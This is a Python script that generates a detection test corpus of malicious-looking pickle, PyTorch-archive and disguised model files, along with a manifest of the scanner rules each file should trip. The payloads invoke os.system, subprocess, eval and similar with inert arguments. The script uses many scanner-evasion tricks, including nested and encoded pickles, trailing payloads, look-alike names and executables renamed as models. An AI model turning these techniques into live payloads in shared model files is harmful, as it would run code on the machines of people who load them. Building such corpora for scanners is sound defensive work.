"""
Writes model files that are meant to be caught, and a list of them:

    python malicious.py FOLDER

Nothing here is ever loaded, and what a loader would run is `true` or `pass`. Streams and containers are put together byte by byte,
so that the standard library is enough; the HDF5 files need h5py and are left out without it. `manifest.json` says of each file the
technique and the rules of which one has to be reported.
"""
import argparse
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import struct
import sys
import tarfile
import zlib

# --- what has to be reported ---------------------------------------------------------------------------------------------------

CALL = ['dangerous-call']
REACH = ['dangerous-call', 'dangerous-import']
NAME = [*REACH, 'unknown-global', 'computed-import', 'unexpected-use', 'code-in-model']
CHANGE = [*NAME, 'changed-object']
FILES = ['file-access', 'deceptive-container', 'malformed-model']
ODD = ['deceptive-container', 'malformed-model', 'not-understood']
PROGRAM = ['executable-content']
REMOTE = ['remote-code', 'unknown-global', 'dangerous-call', 'dangerous-import', 'code-in-model', 'computed-import']

FILES_WRITTEN = []


class Corpus:
    def __init__(self, folder):
        self.folder = folder
        self.left_out = {}

    def add(self, file, data, technique, rules):
        path = os.path.join(self.folder, *file.split('/'))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        assert not os.path.exists(path), file
        with open(path, 'wb') as out:
            out.write(data if isinstance(data, bytes) else data.encode())
        FILES_WRITTEN.append({'file': file, 'technique': technique, 'rules': rules})


# --- a small assembler of pickles ----------------------------------------------------------------------------------------------


def text(value):
    data = value.encode('utf-8', 'surrogatepass')
    return b'X' + struct.pack('<I', len(data)) + data


def short(value):
    data = value.encode()
    return b'\x8c' + bytes([len(data)]) + data


def blob(data):
    return b'B' + struct.pack('<I', len(data)) + data


def num(value):
    return b'J' + struct.pack('<i', value)


def old(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def new(module, name):
    return short(module) + short(name) + b'\x93'


def tup(*items):
    return b'(' + b''.join(items) + b't'


def listed(*items):
    return b'](' + b''.join(items) + b'e'


def mapped(**items):
    return b'}(' + b''.join(text(key) + value for key, value in items.items()) + b'u'


def call(callee, *args):
    return callee + tup(*args) + b'R'


def pickled(body, protocol=4):
    return (b'\x80' + bytes([protocol]) if protocol >= 2 else b'') + body + b'.'


SHELL = call(old('os', 'system'), text('true'))
SHELL_PICKLE = pickled(SHELL, 2)
INNOCENT = pickled(mapped(weights=listed(num(1), num(2), num(3))))


def code(source='pass'):
    return marshal.dumps(compile(source, 'model', 'exec'))


# --- pickles -------------------------------------------------------------------------------------------------------------------

DIRECT = [
    ('os', 'system', [text('true')]), ('posix', 'system', [text('true')]), ('nt', 'system', [text('true')]),
    ('os', 'popen', [text('true')]), ('os', 'execv', [text('/bin/true'), listed(text('true'))]),
    ('subprocess', 'Popen', [listed(text('true'))]), ('subprocess', 'check_output', [text('true')]),
    ('subprocess', 'getoutput', [text('true')]), ('builtins', 'eval', [text('None')]), ('builtins', 'exec', [text('pass')]),
    ('builtins', 'compile', [text('pass'), text('m'), text('exec')]), ('builtins', '__import__', [text('antigravity')]),
    ('builtins', 'open', [text('/dev/null')]), ('builtins', 'getattr', [old('os', 'environ'), text('clear')]),
    ('pty', 'spawn', [text('true')]), ('runpy', 'run_path', [text('/dev/null')]), ('runpy', '_run_code', [text('pass')]),
    ('code', 'InteractiveInterpreter', []),
]
INDIRECT = [
    ('timeit', 'timeit', [text('pass')]), ('cProfile', 'run', [text('pass')]), ('profile', 'Profile.run', [text('pass')]),
    ('trace', 'Trace', []), ('pdb', 'run', [text('pass')]), ('bdb', 'Bdb.run', [text('pass')]),
    ('doctest', 'debug_script', [text('pass')]), ('idlelib.pyshell', 'ModifiedInterpreter.runcommand', [text('pass')]),
    ('ensurepip', '_run_pip', [listed()]), ('pip', 'main', [listed(text('--version'))]),
    ('pip._internal.cli.main', 'main', [listed(text('--version'))]), ('uuid', '_get_command_stdout', [text('true')]),
    ('imaplib', 'IMAP4_stream', [text('true')]), ('_aix_support', '_read_cmd_output', [text('true')]),
    ('ctypes', 'CDLL', [text('/dev/null')]), ('asyncio.unix_events', '_UnixSubprocessTransport._start', []),
    ('pydoc', 'pipepager', [text(''), text('true')]), ('pydoc', 'locate', [text('os.system')]),
    ('pkgutil', 'resolve_name', [text('os:system')]), ('importlib', 'import_module', [text('antigravity')]),
    ('importlib.machinery', 'SourceFileLoader', [text('m'), text('/dev/null')]), ('venv', 'create', [text('/dev/null')]),
    ('threading', 'Timer', [num(0), old('os', 'abort')]), ('atexit', 'register', [old('os', 'abort')]),
    ('weakref', 'finalize', [old('os', 'environ'), old('os', 'abort')]), ('webbrowser', 'open', [text('about:blank')]),
    ('logging.config', 'dictConfig', [b'}']), ('multiprocessing.util', 'spawnv_passfds', []),
]
WALKS = [
    ('operator', 'attrgetter', [text('system')]), ('operator', 'methodcaller', [text('system'), text('true')]),
    ('functools', 'partial', [old('os', 'system'), text('true')]), ('functools', 'reduce', [old('os', 'system'), listed(text('true'))]),
    ('builtins', 'map', [old('os', 'system'), listed(text('true'))]), ('builtins', 'filter', [old('os', 'system'), listed(text('true'))]),
    ('itertools', 'starmap', [old('os', 'system'), listed(tup(text('true')))]),
    ('builtins', 'type', [text('X'), b')', mapped(__del__=old('os', 'abort'))]),
    ('collections', 'defaultdict', [old('os', 'getpid')]),
]
EFFECTS = [
    ('distutils.file_util', 'write_file', [text('/dev/null'), listed()]), ('shutil', 'rmtree', [text('/dev/null/x')]),
    ('shutil', 'copyfile', [text('/dev/null'), text('/dev/null')]), ('urllib.request', 'urlopen', [text('http://127.0.0.1:9/')]),
    ('urllib.request', 'urlretrieve', [text('http://127.0.0.1:9/')]), ('socket', 'create_connection', [tup(text('127.0.0.1'), num(9))]),
    ('ftplib', 'FTP', [text('127.0.0.1')]), ('smtplib', 'SMTP', [text('127.0.0.1')]), ('io', 'open', [text('/dev/null')]),
    ('codecs', 'open', [text('/dev/null')]), ('io', 'FileIO', [text('/dev/null')]), ('logging', 'FileHandler', [text('/dev/null')]),
    ('pathlib', 'Path.write_text', [text('x')]), ('sqlite3', 'connect', [text('/dev/null')]), ('tarfile', 'open', [text('/dev/null')]),
    ('os', 'remove', [text('/dev/null/x')]), ('os', 'putenv', [text('A'), text('B')]), ('os', 'kill', [num(0), num(0)]),
    ('linecache', 'getlines', [text('/dev/null')]), ('fileinput', 'input', [text('/dev/null')]),
]
LIBRARIES = [
    ('numpy.f2py.crackfortran', 'getlincoef', [text('None'), b'}']), ('numpy.testing._private.utils', 'runstring', [text('pass'), b'}']),
    ('torch.utils.collect_env', 'run', [text('true')]), ('torch.utils._config_module', 'load_config', [blob(b'')]),
    ('torch._dynamo.guards', 'GuardBuilder.get', [text('None')]), ('torch.utils.bottleneck.__main__', 'run_cprofile', [text('pass'), b'}']),
    ('torch.hub', 'load', [text('a/b'), text('c')]), ('torch.jit.unsupported_tensor_ops', 'execWrapper', [text('pass')]),
    ('torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression', [text('None')]),
    ('numpy', 'fromfile', [text('/dev/null')]), ('numpy', 'memmap', [text('/dev/null')]), ('pandas', 'eval', [text('1')]),
    ('pandas', 'read_csv', [text('http://127.0.0.1:9/')]), ('sklearn.datasets', 'fetch_openml', [text('a')]),
    ('scipy.io', 'loadmat', [text('/dev/null')]), ('tensorflow.io', 'read_file', [text('/dev/null')]),
    ('transformers', 'AutoModel.from_pretrained', [text('a/b')]), ('keras.models', 'load_model', [text('m.keras')]),
    ('sympy', 'sympify', [text('1')]), ('jinja2', 'Template', [text('{{ 1 }}')]), ('yaml', 'unsafe_load', [text('1')]),
    ('matplotlib.cbook', '_unpack', []), ('xgboost.core', '_load_lib', []), ('triton.runtime.build', '_build', []),
]
LOADERS = [
    ('pickle', 'loads'), ('_pickle', 'loads'), ('dill', 'loads'), ('cloudpickle', 'loads'), ('marshal', 'loads'), ('torch', 'load'),
    ('torch.storage', '_load_from_bytes'), ('pandas', 'read_pickle'), ('joblib', 'load'), ('numpy', 'load'), ('shelve', 'open'),
]


def plain(corpus):
    for family, rules, rows in [
        ('direct', CALL, DIRECT), ('indirect', NAME, INDIRECT), ('walk', NAME, WALKS), ('effect', NAME, EFFECTS), ('library', NAME, LIBRARIES),
    ]:
        for at, (module, name, args) in enumerate(rows):
            make, protocol = [(old, 0), (old, 2), (new, 4), (new, 5)][at % 4]
            if '.' in name:
                make, protocol = new, 4
            body = call(make(module, name), *args)
            ending = ['pkl', 'bin', 'pt', 'joblib', 'ckpt', 'dat'][at % 6]
            corpus.add(f'{family}-{module}.{name}.{ending}', pickled(body, protocol), f'{family}: {module}.{name}', rules)
    for module, name in LOADERS:
        body = call(new(module, name), blob(SHELL_PICKLE))
        corpus.add(f'loader-{module}.{name}.pkl', pickled(body), f'a loader called with a pickle: {module}.{name}', NAME)


def opcodes(corpus):
    def add(name, data, technique, rules=CALL):
        corpus.add(f'opcode-{name}.pkl', data, technique, rules)

    for protocol in range(6):
        add(f'protocol-{protocol}', pickled(SHELL if protocol < 4 else call(new('os', 'system'), short('true')), protocol), f'protocol {protocol}')
    add('inst', b'(Vtrue\nios\nsystem\n.', 'INST')
    add('obj', b'(cos\nsystem\nVtrue\no.', 'OBJ')
    add('newobj', pickled(old('subprocess', 'Popen') + tup(listed(text('true'))) + b'\x81'), 'NEWOBJ', REACH)
    add('newobj-ex', pickled(old('subprocess', 'Popen') + tup(listed(text('true'))) + b'}\x92'), 'NEWOBJ_EX', REACH)
    add('newobj-call', pickled(call(old('copyreg', '__newobj__'), old('subprocess', 'Popen'), listed(text('true')))), 'copyreg.__newobj__', NAME)
    add('reconstructor', pickled(call(old('copy_reg', '_reconstructor'), old('subprocess', 'Popen'), old('__builtin__', 'object'), b'N'), 2), '_reconstructor of a foreign class', NAME)
    add('ext1', pickled(b'\x82\x05' + tup(text('true')) + b'R', 2), 'the extension registry', NAME)
    add('ext2', pickled(b'\x83\x05\x01' + tup(text('true')) + b'R', 2), 'the extension registry', NAME)
    add('ext4', pickled(b'\x84\x05\x01\x00\x00' + tup(text('true')) + b'R', 2), 'the extension registry', NAME)
    add('ext-added', pickled(call(old('copyreg', 'add_extension'), text('os'), text('system'), num(7)) + b'0\x82\x07' + tup(text('true')) + b'R', 2), 'a registered extension', NAME)
    add('build-class', pickled(old('collections', 'OrderedDict') + mapped(__reduce__=old('os', 'system')) + b'b'), 'BUILD on a class', CHANGE)
    add('build-setstate', pickled(old('types', 'SimpleNamespace') + b')\x81' + mapped(__setstate__=old('os', 'system')) + b'b' + text('true') + b'b'), 'BUILD calls a planted __setstate__', CHANGE)
    add('build-module', pickled(new('numpy', 'core') + mapped(x=old('os', 'abort')) + b'b'), 'BUILD on a module', CHANGE)
    add('build-slots', pickled(old('collections', 'OrderedDict') + tup(b'N', mapped(fromkeys=old('os', 'system'))) + b'b'), 'BUILD of slots on a class', CHANGE)
    add('setitem-modules', pickled(old('sys', 'modules') + text('numpy') + old('os', 'environ') + b's'), 'SETITEM on sys.modules', CHANGE)
    add('setitems-modules', pickled(old('sys', 'modules') + b'(' + text('numpy') + text('x') + b'u'), 'SETITEMS on sys.modules', CHANGE)
    add('append-foreign', pickled(old('sys', 'path') + text('/dev/null') + b'a'), 'APPEND to sys.path', CHANGE)
    add('appends-foreign', pickled(old('sys', 'meta_path') + b'(' + text('/dev/null') + b'e'), 'APPENDS to sys.meta_path', CHANGE)
    add('additems-foreign', pickled(old('os', 'environ') + b'(' + text('/dev/null') + b'\x90'), 'ADDITEMS on what is no set', CHANGE)
    add('referenced', pickled(mapped(f=old('os', 'system'))), 'a dangerous function that is only referred to', REACH)
    add('persid', pickled(tup(text('storage'), SHELL, text('0'), text('cpu'), num(0)) + b'Q'), 'a call inside a persistent id')
    add('frame-long', b'\x80\x04\x95' + struct.pack('<Q', 1 << 40) + SHELL + b'.', 'a frame longer than the file')
    add('frame-short', b'\x80\x04\x95' + struct.pack('<Q', 3) + SHELL + b'.', 'a frame that ends within an opcode')
    add('frame-zero', b'\x80\x04' + (b'\x95' + bytes(8)) * 5 + SHELL + b'.', 'empty frames')
    add('name-escaped', b"cos\nsystem\n(S'tr\\x75e'\ntR.", 'an escaped argument')
    add('string-escaped', b"\x80\x04S'o\\x73'\nS'syst\\x65m'\n\x93(Vtrue\ntR.", 'module and name escaped in STRING')
    add('unicode-escaped', b'\x80\x04V\\u006fs\nVsyste\\U0000006d\n\x93(Vtrue\ntR.', 'module and name escaped in UNICODE')
    add('binstring', b'\x80\x04U\x02osU\x06system\x93(U\x04truetR.', 'names as SHORT_BINSTRING')
    add('binstring-long', b'\x80\x04T\x02\0\0\0osT\x06\0\0\0system\x93(U\x04truetR.', 'names as BINSTRING')
    add('unicode8', b'\x80\x04\x8d' + struct.pack('<Q', 2) + b'os\x8d' + struct.pack('<Q', 6) + b'system\x93(Vtrue\ntR.', 'names as BINUNICODE8')
    add('py2-builtin', pickled(call(old('__builtin__', 'eval'), text('None')), 2), 'a name of Python 2')
    add('py2-commands', pickled(call(old('commands', 'getoutput'), text('true')), 2), 'a module of Python 2', NAME)
    add('py2-apply', pickled(call(old('__builtin__', 'apply'), old('os', 'system'), listed(text('true'))), 2), 'apply of Python 2', NAME)
    add('py2-urllib', pickled(call(old('urllib2', 'urlopen'), text('http://127.0.0.1:9/')), 2), 'urllib2 of Python 2', NAME)
    add('py2-reduce', pickled(call(old('__builtin__', 'reduce'), old('os', 'system'), listed(text('true'))), 2), 'reduce of Python 2', NAME)
    add('protocol-switch', b'\x80\x05N0\x80\x02' + call(old('__builtin__', 'eval'), text('None')) + b'.', 'PROTO in the middle')
    add('protocol-high', b'\x80\xff' + SHELL + b'.', 'a protocol that does not exist', [*CALL, *ODD])


def evasions(corpus):
    def add(name, data, technique, rules=CALL):
        corpus.add(f'evasion-{name}.pkl', data, technique, rules)

    body = lambda names: names + b'\x93' + tup(text('true')) + b'R'
    add('memo-overwritten', pickled(short('collections') + b'q\x000' + short('os') + b'q\x000' + short('system') + b'q\x010' + body(b'h\x00h\x01')), 'a memo entry written twice')
    add('memo-mixed', pickled(short('os') + b'q\x050' + short('system') + b'\x940' + short('OrderedDict') + b'q\x070' + body(b'h\x05h\x01')), 'MEMOIZE counts entries')
    add('memo-long', pickled(short('os') + b'r\xff\xff\xff\x7f0' + short('system') + b'p999999\n0' + body(b'j\xff\xff\xff\x7fg999999\n')), 'very high memo indexes')
    add('memo-missing', pickled(call(old('os', 'system'), text('true')) + b'0h\x63'), 'a memo entry that is missing, after the payload')
    add('memo-function', pickled(old('os', 'system') + b'q\x000' + old('collections', 'OrderedDict') + b'0h\x00' + tup(text('true')) + b'R'), 'the function from the memo')
    add('dup', pickled(short('os') + short('system') + b'22' + b'00\x93' + tup(text('true')) + b'R'), 'DUP and POP between names')
    add('popmark', pickled(short('os') + b'(NNN1' + short('system') + b'(N1\x93' + tup(text('true')) + b'R'), 'POP_MARK between names')
    add('decoy', pickled(short('os') + short('system') + short('collections') + short('OrderedDict') + b'00\x93' + tup(text('true')) + b'R'), 'strings in between that are dropped')
    add('reordered', pickled(b'(' + short('system') + short('os') + b'tq\x000' + short('os') + b'q\x01' + short('system') + b'\x93' + tup(text('true')) + b'R'), 'names in another order first')
    add('truncated', pickled(SHELL)[:-1], 'no STOP')
    add('broken-after', b'\x80\x04' + SHELL + b'\xff\xff\xff', 'an unknown opcode after the payload')
    add('underflow-after', b'\x80\x04' + SHELL + b'0000R.', 'a stack underflow after the payload')
    add('length-after', b'\x80\x04' + SHELL + b'\x8e' + b'\xff' * 8, 'a length beyond the file after the payload')
    add('long-negative', b'\x80\x04' + SHELL + b'\x8b\xff\xff\xff\xff.', 'a negative length after the payload')
    add('bad-int', b'\x80\x04' + SHELL + b'Inot a number\n.', 'a number that is none after the payload')
    add('garbage-inside', b'\x80\x04' + b'N0' * 4000 + SHELL + b'.', 'a long harmless start')
    add('trailing', INNOCENT + SHELL_PICKLE, 'a second pickle')
    add('trailing-fifth', INNOCENT * 4 + SHELL_PICKLE, 'a fifth pickle')
    add('trailing-padded', INNOCENT + bytes(64) + SHELL_PICKLE, 'a second pickle behind zeros')
    add('trailing-garbage', INNOCENT + b'\xfe\xfd\xfc\xfb' * 8 + pickled(call(new('os', 'system'), short('true'))), 'a second pickle behind other bytes', [*CALL, 'not-understood'])
    add('trailing-protocol-0', INNOCENT + pickled(SHELL, 0), 'a second pickle of protocol 0')
    add('nested-bytes', pickled(mapped(state=blob(SHELL_PICKLE))), 'a pickle in bytes', [*CALL, 'computed-import'])
    add('nested-twice', pickled(call(old('pickle', 'loads'), blob(pickled(call(old('pickle', 'loads'), blob(SHELL_PICKLE)))))), 'a pickle in a pickle in a pickle', NAME)
    add('nested-zlib', pickled(call(old('pickle', 'loads'), call(old('zlib', 'decompress'), blob(zlib.compress(SHELL_PICKLE))))), 'a packed pickle handed to a loader', NAME)
    add('nested-base64', pickled(call(old('pickle', 'loads'), call(old('base64', 'b64decode'), blob(base64.b64encode(SHELL_PICKLE))))), 'a pickle in base64 handed to a loader', NAME)
    add('nested-codecs', pickled(call(old('pickle', 'loads'), call(old('_codecs', 'encode'), text(SHELL_PICKLE.decode('latin1')), text('latin1')))), 'a pickle as text handed to a loader', NAME)
    add('nested-bytearray', pickled(mapped(state=b'\x96' + struct.pack('<Q', len(SHELL_PICKLE)) + SHELL_PICKLE), 5), 'a pickle in a bytearray', [*CALL, 'computed-import'])
    add('codecs-zip', pickled(call(old('_codecs', 'decode'), blob(b'x'), text('zlib'))), '_codecs.decode with a packing codec', NAME)
    add('codecs-import', pickled(call(old('_codecs', 'encode'), text('x'), text('evil_package'))), 'a codec that is looked up by import', NAME)
    add('computed-getattr', pickled(call(call(old('builtins', 'getattr'), call(old('importlib', 'import_module'), text('os')), text('sys' 'tem')), text('true'))), 'getattr of an imported module', NAME)
    add('computed-name', pickled(short('os') + call(old('_codecs', 'decode'), blob(b'flfgrz'), text('rot13')) + b'\x93' + tup(text('true')) + b'R'), 'a name that is computed', NAME)
    add('computed-join', pickled(call(new('builtins', 'str.join'), text(''), listed(text('o'), text('s'))) + short('system') + b'\x93' + tup(text('true')) + b'R'), 'a module that is joined', NAME)
    add('computed-slice', pickled(short('os') + call(call(old('operator', 'itemgetter'), num(0)), listed(text('system'))) + b'\x93' + tup(text('true')) + b'R'), 'a name out of a list', NAME)
    add('computed-state', pickled(short('os') + old('collections', 'OrderedDict') + b')R' + b'\x93' + tup(text('true')) + b'R'), 'a name that is no text', NAME + ['not-understood'])
    add('callee-called', pickled(call(call(call(old('builtins', 'getattr'), old('builtins', '__dict__'), text('get')), text('eval')), text('None'))), 'what a call gave is called', NAME)
    for at, (module, name) in enumerate([
        ('collections', 'abc.sys.modules'), ('torch.serialization', 'os.system'), ('numpy', 'os.system'), ('datetime', 'sys.modules.get'),
        ('numpy.core', 'multiarray.overrides.functools.partial'), ('sklearn', 'base.warnings.sys.exit'), ('torch', 'nn.Module.__init__.__globals__'),
        ('builtins', 'object.__subclasses__'), ('collections', 'OrderedDict.fromkeys.__self__'), ('numpy', 'ndarray.tofile'),
    ]):
        add(f'dotted-{at}', pickled(call(new(module, name), text('true'))), f'a walk along attributes: {module} {name}', NAME)
    add('name-spaces', b'\x80\x04c os \nsystem \n(Vtrue\ntR.', 'spaces about names', NAME)
    add('name-case', pickled(call(new('Numpy', 'Ndarray'), text('x'))), 'a look-alike in other case', NAME)
    add('name-confusable', pickled(call(new('num\u0440y', 'ndarray'), text('x'))), 'a look-alike of another alphabet', NAME)
    add('name-zero-width', pickled(call(new('numpy\u200b', 'ndarray'), text('x'))), 'a name with an invisible letter', NAME)
    add('name-typo', pickled(new('torch_nn', 'Linear') + b')\x81}b'), 'a package of a similar name', NAME)
    add('name-log', pickled(call(new('evil\u001b[2K\u202e::error::', 'x'), text('x'))), 'control characters in a name', NAME)
    add('name-long', b'\x80\x04c' + b'a' * 70000 + b'\nb\n(tR.', 'a very long name', NAME + ['not-understood'])
    add('custom-class', pickled(new('__main__', 'Net') + b')\x81}b'), 'a class of its maker', NAME)
    add('unknown-module', pickled(call(new('helpful_tools', 'restore'), text('x'))), 'a module that nobody knows', NAME)
    add('import-only', pickled(new('antigravity', 'fly') + b'0N'), 'an import that is dropped', NAME)
    add('submodule-private', pickled(call(new('numpy._core._internal', '_ctypes'), text('x'))), 'a private part of a known library', NAME)
    for name, body in {
        'ndarray-subtype': call(old('numpy.core.multiarray', '_reconstruct'), old('subprocess', 'Popen'), tup(num(0)), blob(b'b')),
        'scalar-object': call(old('numpy.core.multiarray', 'scalar'), call(old('numpy', 'dtype'), text('O8'), b'\x89', b'\x88'), blob(SHELL_PICKLE)),
        'frombuffer-object': call(old('numpy.core.numeric', '_frombuffer'), blob(SHELL_PICKLE), call(old('numpy', 'dtype'), text('O'), b'\x89', b'\x88'), tup(num(1)), text('C')),
        'ndarray-object-state': call(old('numpy.core.multiarray', '_reconstruct'), old('numpy', 'ndarray'), tup(num(0)), blob(b'b'))
        + tup(num(1), tup(num(1)), call(old('numpy', 'dtype'), text('O8'), b'\x89', b'\x88') + tup(num(3), text('|'), b'N', b'N', b'N', num(-1), num(-1), num(63)) + b'b', b'\x89', listed(SHELL)) + b'b',
        'torch-type-function': call(old('torch._tensor', '_rebuild_from_type_v2'), old('os', 'system'), old('torch', 'Tensor'), tup(text('true')), b'N'),
        'torch-device-function': call(old('torch._utils', '_rebuild_device_tensor_from_numpy'), SHELL, old('torch', 'float32'), text('cpu'), b'\x89'),
        'torch-wrapper': call(old('torch._utils', '_rebuild_wrapper_subclass'), old('subprocess', 'Popen'), old('torch', 'float32'), tup(), tup(), num(0), b'N', text('cpu'), b'\x89'),
        'torch-load-bytes': call(old('torch.storage', '_load_from_bytes'), blob(SHELL_PICKLE)),
        'pandas-index': call(old('pandas.core.indexes.base', '_new_Index'), old('subprocess', 'Popen'), mapped(args=text('true'))),
        'sklearn-function': old('sklearn.preprocessing._function_transformer', 'FunctionTransformer') + b')\x81' + mapped(func=old('os', 'system'), inverse_func=b'N') + b'b',
        'sklearn-scorer': call(old('sklearn.metrics._scorer', 'make_scorer'), old('builtins', 'eval')),
        'default-factory': call(old('collections', 'defaultdict'), old('subprocess', 'getoutput')),
        'partial-value': mapped(activation=call(old('functools', 'partial'), old('builtins', 'exec'), text('pass'))),
        'partial-state': old('functools', 'partial') + tup(old('builtins', 'len')) + b'\x81' + tup(old('os', 'system'), tup(text('true')), b'}', b'N') + b'b',
        'regex-foreign': call(old('re', '_compile'), SHELL, num(0)),
        'enum-member': call(old('enum', 'Enum'), text('X'), tup(SHELL)),
        'bound-method': call(call(old('builtins', 'getattr'), call(old('pathlib', 'PosixPath'), text('/dev/null')), text('unlink'))),
    }.items():
        add(f'misused-{name}', pickled(body), f'a known function misused: {name}', NAME)


def carried_code(corpus):
    def add(name, data, technique, rules=NAME):
        corpus.add(f'code-{name}', data, technique, rules)

    make = call(old('marshal', 'loads'), blob(code()))
    add('marshal.pkl', pickled(call(call(old('types', 'FunctionType'), make, b'}'))), 'marshalled code made a function and called')
    add('codetype.pkl', pickled(call(old('types', 'CodeType'), num(0), num(0), num(0), num(0), num(0), num(0), blob(b'd\0S\0'), tup(b'N'), tup(), tup(), text('m'), text('m'), num(0), blob(b''), tup(), tup())), 'a code object')
    add('new-module.pkl', pickled(call(old('new', 'function'), make, b'}'), 2), 'the module new of Python 2')
    for package in ['cloudpickle.cloudpickle', 'joblib.externals.cloudpickle.cloudpickle', 'cloudpickle.cloudpickle_fast']:
        built = call(old(package, '_builtin_type'), text('CodeType'))
        function = call(old(package, '_make_function'), call(built, num(0)), b'}', text('f'), b'N', b'N')
        add(f'{package}.pkl', pickled(function), f'a function by {package}')
        add(f'{package}-called.pkl', pickled(call(function)), f'a function by {package}, called')
    add('cloudpickle-subimport.pkl', pickled(call(old('cloudpickle.cloudpickle', 'subimport'), text('os'))), 'subimport of cloudpickle')
    add('cloudpickle-class.pkl', pickled(call(old('cloudpickle.cloudpickle', '_make_skeleton_class'), old('builtins', 'type'), text('N'), tup(old('builtins', 'object')), b'}', text('1'), b'N')), 'a class by cloudpickle')
    for name in ['_create_function', '_create_code', '_create_type', '_load_type', '_import_module', '_eval_repr', '_get_attr', '_create_filehandle']:
        for module in ['dill._dill'] if name != '_create_code' else ['dill._dill', 'dill.dill']:
            add(f'{module}.{name}.pkl', pickled(call(old(module, name), text('os'))), f'{module}.{name}')
    add('compiled.pkl', b'\xa7\r\r\n' + bytes(12) + code(), 'compiled Python under the name of a pickle', PROGRAM + REMOTE)


def disguises(corpus):
    def add(name, data, technique, rules):
        corpus.add(f'disguise-{name}', data, technique, rules)

    for ending in ['h5', 'onnx', 'safetensors', 'gguf', 'npy', 'keras', 'tflite', 'pb', 'txt', 'json', 'jpg', 'csv', 'py.bak', 'zip']:
        add(f'pickle.{ending}', SHELL_PICKLE, f'a pickle called .{ending}', CALL)
    add('no-ending', SHELL_PICKLE, 'a pickle without an ending', CALL)
    add('blobs/0f3c9d', SHELL_PICKLE, 'a pickle called by its digest', CALL)
    elf = b'\x7fELF\x02\x01\x01' + bytes(9) + struct.pack('<HHI', 3, 62, 1) + bytes(64)
    pe = b'MZ' + bytes(58) + struct.pack('<I', 64) + b'PE\0\0' + struct.pack('<HH', 0x8664, 1) + bytes(200)
    for name, data in {
        'elf.pt': elf, 'elf.safetensors': elf, 'pe.onnx': pe, 'macho.bin': b'\xcf\xfa\xed\xfe' + struct.pack('<IIII', 0x0100000C, 0, 2, 0) + bytes(64),
        'script.pkl': b'#!/bin/sh\ntrue\n', 'script.bin': b'#!/usr/bin/env python3\npass\n', 'universal.dylib.pt': b'\xca\xfe\xba\xbe' + struct.pack('>II', 1, 0x01000007) + bytes(64),
        'llamafile.gguf': b'MZqFpD=\'\n\n\0' + bytes(100) + b'true\n' + zipped([Member('model.gguf', b'GGUF')]),
        'python-in-weights.pt': torch_zip(INNOCENT, [Member('archive/setup.py', b'pass\n')]),
    }.items():
        add(name, data, f'a program posing as a model: {name}', PROGRAM + ['code-in-model', 'deceptive-container'])


# --- archives ------------------------------------------------------------------------------------------------------------------


class Member:
    """A member of a zip; what is given by name replaces what would be right in one of the two headers."""

    def __init__(self, name, data, method=0, **wrong):
        self.name = name.encode() if isinstance(name, str) else name
        self.data = data
        self.method = method
        self.wrong = wrong


def packed(data, method):
    if method == 8:
        maker = zlib.compressobj(9, zlib.DEFLATED, -15)
        return maker.compress(data) + maker.flush()
    if method == 12:
        return bz2.compress(data)
    if method == 14:
        filters = [{'id': lzma.FILTER_LZMA1, 'dict_size': 1 << 16}]
        return b'\x09\x04\x05\x00' + b'\x5d' + struct.pack('<I', 1 << 16) + lzma.compress(data, lzma.FORMAT_RAW, filters=filters)
    if method == 93:
        return zstd(data)
    return lzma.compress(data) if method == 95 else data


def zipped(members, prefix=b'', comment=b'', tail=b'', gap=b'', shift=True, directory=None):
    out = bytearray(prefix)
    central = bytearray()
    for member in members:
        data = packed(member.data, member.method)
        wrong = member.wrong
        crc = wrong.get('crc', zlib.crc32(member.data))
        flags = wrong.get('flags', 0)
        at = len(out) - (0 if shift else len(prefix))
        name = wrong.get('local_name', member.name)
        size = wrong.get('size', len(data))
        out += struct.pack('<IHHHHHIIIHH', 0x04034B50, 20, wrong.get('local_flags', flags), wrong.get('local_method', member.method), 0, 33,
                           crc, wrong.get('local_size', size), len(member.data), len(name), len(wrong.get('extra', b'')))
        out += name + wrong.get('extra', b'') + data + gap
        if not wrong.get('unlisted'):
            central += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014B50, 0x0314, 20, flags, wrong.get('central_method', member.method), 0, 33, crc, size,
                                   len(member.data), len(member.name), 0, 0, 0, 0, wrong.get('mode', 0o100644) << 16, at) + member.name
    count = sum(not member.wrong.get('unlisted') for member in members)
    start = len(out) - (0 if shift else len(prefix))
    end = struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, count, count, len(central), start, len(comment)) + comment
    return bytes(out + central + end) + tail


def zstd(data):
    assert len(data) < 256
    return b'\x28\xb5\x2f\xfd\x20' + bytes([len(data)]) + struct.pack('<I', 1 | len(data) << 3)[:3] + data


def lz4(data):
    return b'\x04\x22\x4d\x18\x60\x40\x82' + struct.pack('<I', len(data) | 1 << 31) + data + bytes(4)


STORAGE = tup(text('storage'), old('torch', 'FloatStorage'), text('0'), text('cpu'), num(3)) + b'Q'
TENSOR = call(old('torch._utils', '_rebuild_tensor_v2'), STORAGE, num(0), tup(num(3)), tup(num(1)), b'\x89', call(old('collections', 'OrderedDict')))
STATE = pickled(mapped(weight=TENSOR), 2)
EVIL_STATE = pickled(mapped(weight=TENSOR, hook=SHELL), 2)


def torch_zip(state=STATE, more=(), root='archive', name='data.pkl', method=0, **options):
    first = state if isinstance(state, Member) else Member(f'{root}/{name}', state, method)
    rest = [Member(f'{root}/byteorder', b'little'), Member(f'{root}/data/0', struct.pack('<3f', 1, 2, 3)), Member(f'{root}/version', b'3\n')]
    return zipped([first, *rest, *more], **options)


def archives(corpus):
    def add(name, data, technique, rules=CALL):
        corpus.add(f'archive-{name}', data, technique, rules)

    here = 'archive/data.pkl'
    add('torch.pt', torch_zip(EVIL_STATE), 'a PyTorch archive')
    for method, name in {8: 'deflate', 12: 'bzip2', 14: 'lzma', 93: 'zstd', 95: 'xz'}.items():
        add(f'torch-{name}.pt', torch_zip(SHELL_PICKLE if method == 93 else EVIL_STATE, method=method), f'data.pkl packed by {name}')
    add('torch-method.pt', torch_zip(EVIL_STATE, method=98), 'a packing that nobody knows', [*CALL, *ODD])
    for bit in [0, 5, 6, 13]:
        add(f'torch-flag-{bit}.pt', torch_zip(Member(here, EVIL_STATE, flags=1 << bit)), f'flag bit {bit} set')
    add('torch-flag-local.pt', torch_zip(Member(here, EVIL_STATE, local_flags=1)), 'the encryption bit in one header only')
